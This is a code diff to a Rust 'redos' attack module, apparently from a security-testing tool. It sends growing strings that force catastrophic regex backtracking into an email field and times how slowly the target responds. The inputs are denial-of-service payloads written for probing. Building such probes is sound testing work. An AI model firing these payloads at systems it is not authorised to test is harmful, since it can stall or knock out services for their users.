@@ -16,13 +16,11 @@ pub const ATTACK: Attack = Attack { name: "redos", settings: &[], control: Contr
 const MOST: Duration = Duration::from_secs(3);
 
 pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
-    for text in [
-        "a".repeat(29) + "!",
-        "a@".repeat(120),
-        "a.".repeat(120) + "@",
-        "@".to_owned() + &"a-".repeat(120),
-        " ".repeat(4000),
-    ] {
+    // Each letter more doubles what a pattern that goes back tries: a few seconds are reached on every machine.
+    let growing = (18..32).map(|letters| "a".repeat(letters) + "!");
+    for text in
+        growing.chain(["a@".repeat(120), "a.".repeat(120) + "@", "@".to_owned() + &"a-".repeat(120), " ".repeat(4000)])
+    {
         let started = Instant::now();
         for body in [
             json!({"email": text, "password": PASSWORD, "name": "Sam"}),
